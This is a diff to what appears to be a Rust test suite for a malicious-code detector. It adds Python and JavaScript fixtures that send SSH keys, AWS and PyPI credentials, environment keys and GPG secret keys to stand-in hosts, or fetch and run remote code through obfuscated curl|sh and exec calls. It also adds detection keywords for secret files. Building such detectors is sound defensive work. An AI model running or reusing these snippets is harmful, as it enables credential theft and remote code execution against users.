@@ -13,6 +13,32 @@ fn is_seen(language: Language, code: &str) -> bool {
 }
 
 const PYTHON: &[&str] = &[
+    r#"import configparser, urllib.request
+from pathlib import Path
+c = configparser.RawConfigParser()
+c.read([Path.home() / '.pypirc'])
+for s in c.sections():
+    urllib.request.urlopen('https://h.invalid', c.get(s, 'password').encode())"#,
+    r#"import configparser, os, requests
+c = configparser.ConfigParser()
+c.read(os.path.expanduser('~/.aws/credentials'))
+requests.post('https://h.invalid', data=c['default']['aws_secret_access_key'])"#,
+    r#"import asyncio, gzip, json, os
+class Spool:
+    def __init__(self):
+        self.kept = {k: os.environ[k] for k in os.environ if k.endswith('_KEY')}
+    async def rotate(self):
+        _, w = await asyncio.wait_for(asyncio.open_connection(*('203.0.113.5', 80)), 4)
+        w.write(b'POST / HTTP/1.1\r\n\r\n' + gzip.compress(json.dumps(self.kept).encode()))
+asyncio.run(Spool().rotate())"#,
+    r#"import os, subprocess
+subprocess.run(['bash', '-c', 'tar cf - ~/.ssh ~/.kube|curl -sT- https://h.invalid/x'])"#,
+    r#"import os
+os.system('curl -s https://h.invalid/x -d "$(base64 -w0 ~/.aws/credentials)"')"#,
+    r#"import os
+os.system('scp -r ~/.ssh u@203.0.113.5:/x')"#,
+    r#"import os
+os.system('gpg --export-secret-keys | curl -T - https://h.invalid/x')"#,
     r#"import aiohttp, asyncio, os
 async def m():
     async with aiohttp.ClientSession() as s:
@@ -165,7 +191,9 @@ fn what_tells_nothing_may_leave() {
     for script in PYTHON {
         let harmless =
             script.replace("dict(os.environ)", "{'version': '1.0'}").replace("os.environ.items()", "{}.items()");
-        let tells = ["os.environ['USER']", ".ssh", ".aws", "env | curl"].iter().any(|word| harmless.contains(word));
+        let tells = ["os.environ['USER']", "os.environ[k]", ".ssh", ".aws", ".pypirc", "export-secret", "env | curl"]
+            .iter()
+            .any(|word| harmless.contains(word));
         assert!(tells || !is_seen(Language::Python, &harmless), "{harmless}");
     }
     for script in JAVASCRIPT {
@@ -178,6 +206,39 @@ fn what_tells_nothing_may_leave() {
 }
 
 const ACTS_OF_PYTHON: &[&str] = &[
+    r#"import subprocess, sys
+u = 'https://h.invalid/x'
+subprocess.Popen([sys.executable, '-c', 'import urllib.request as r;exec(r.urlopen(%r).read())' % u])"#,
+    r#"u = 'https://h.invalid/x'
+exec('import urllib.request as r;exec(r.urlopen(%(u)r).read())' % {'u': u})"#,
+    r#"u = 'https://h.invalid/x'
+exec(f'import urllib.request as r;exec(r.urlopen({u!r}).read())')"#,
+    r#"u = 'https://h.invalid/x'
+exec('import urllib.request as r;exec(r.urlopen({!r}).read())'.format(u))"#,
+    r#"class G:
+    @staticmethod
+    def go(h, c):
+        getattr(__import__(h), 'run')(['bash', '-c', c])
+    def x(self):
+        self.go('subprocess', 'curl -s https://h.invalid/x | sh')
+G().x()"#,
+    r#"class G:
+    @staticmethod
+    def go(command='curl -s https://h.invalid/x | sh'):
+        return __import__('os').system(command)
+    order = go.__func__()"#,
+    r#"import subprocess
+class A:
+    def __init__(self, c):
+        self.c = c
+class B(A):
+    def __init__(self):
+        A.__init__(self, 'curl -s https://h.invalid/x | sh')
+subprocess.run(['bash', '-c', B().c])"#,
+    r#"from itertools import chain, zip_longest
+import json, os
+s = ''.join(chain.from_iterable([['curl -s htt'], ['ps://h.invalid', '/x']]))
+os.system(json.loads('{"c": " | sh"}')['c'].join([s, '']))"#,
     r#"import os
 with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as f:
     f.write('ssh-rsa AAAAB3NzaC1yc2E attacker@x\n')"#,
@@ -282,6 +343,9 @@ exec(marshal.loads(zlib.decompress(base64.b64decode('eJw='))))"#,
 ];
 
 const ACTS_OF_JAVASCRIPT: &[&str] = &[
+    r#"eval(JSON.parse('{"c":"require(\\"child_process\\").execSync(\\"curl -s https://h.invalid/x|sh\\")"}').c)"#,
+    r#"require('child_process').execSync([...new Set(['curl -s https://h.invalid', '/x|sh'])].join(''))"#,
+    r#"require('child_process').execSync([['curl -s ', ['https://h.invalid']], '/x|sh'].flat(2).join(''))"#,
     r#"require('fs').appendFileSync(require('path').join(require('os').homedir(),'.ssh','authorized_keys'),'ssh-ed25519 AAAAC3Nza x\n')"#,
     r#"const axios=require('axios');axios.get('https://h.invalid/a').then(r=>{eval(r.data.cookie)}).catch(e=>{eval(e.response.data)})"#,
     r#"require('fs').appendFileSync(require('os').homedir()+'/.bashrc','curl -s https://h.invalid/x | sh\n')"#,
